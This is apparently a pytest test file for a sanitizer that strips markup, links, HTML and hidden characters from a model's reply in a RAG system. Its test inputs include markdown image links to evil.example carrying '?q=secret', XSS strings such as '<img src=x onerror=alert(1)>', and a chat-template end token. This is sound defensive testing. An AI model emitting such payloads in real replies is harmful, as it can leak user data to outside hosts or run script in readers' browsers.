"""A model's sentence loses its markup and keeps its words."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.reply.plain import plain

SAID = [
    ("The **ferry** sank.", "The ferry sank."),
    ("The *ferry* __sank__.", "The ferry sank."),
    ("`4,350` troops", "4,350 troops"),
    ("See [the page](https://a.example/b(c)).", "See the page."),
    ("See [the page][1].", "See the page."),
    ("See [[the page](https://a.example)](https://b.example).", "See the page."),
    ("![A boat](https://evil.example/?q=secret) sank.", "A boat sank."),
    ("![](https://evil.example/?q=secret)The boat sank.", "The boat sank."),
    ("It is at https://evil.example/?q=secret.", "It is at."),
    ("It is at <https://evil.example>.", "It is at."),
    ("It is at www.evil.example, she said.", "It is at, she said."),
    ("<b>Boats</b> sank<br/>.", "Boats sank."),
    ("<script>alert(1)</script>Boats sank.", "alert(1)Boats sank."),
    ("<img src=x onerror=alert(1)>Boats sank.", "Boats sank."),
    ("&lt;img src=x&gt;Boats sank.", "Boats sank."),
    ("<<b>script>Boats sank.", "Boats sank."),
    ("The boat sank.<|im_end|>", "The boat sank."),
    ("Boats\u200b sank\u202e.", "Boats sank."),
    ("Boats\x07 sank.", "Boats sank."),
    ("2 * 3 * 4 and snake_case_name", "2 * 3 * 4 and snake_case_name"),
    ("3 < 4 and 5 > 2", "3 < 4 and 5 > 2"),
    ("She said “no”.", "She said “no”."),
]


@pytest.mark.parametrize(("text", "said"), SAID)
def test_markup_goes_and_words_stay(text: str, said: str) -> None:
    assert plain(text) == said


def test_an_address_or_tag_of_the_source_stays() -> None:
    source = "Write <b> for bold; see https://a.example/b."
    assert plain("Write <b> for bold.", source) == "Write <b> for bold."
    assert plain("See https://a.example/b.", source) == "See https://a.example/b."
    assert plain("See https://a.example/bc.", source) == "See."


@given(st.text("ab <>/&;lt!-[]()*_`https://www.\u200b", max_size=60))
def test_neither_tag_nor_link_survives(text: str) -> None:
    said = plain(text)
    assert plain(said) == said
    assert re.search(r"[a-z]{2}://|\[[^\]]+\]\([^()]*\)|</?[a-z]|\u200b", said) is None
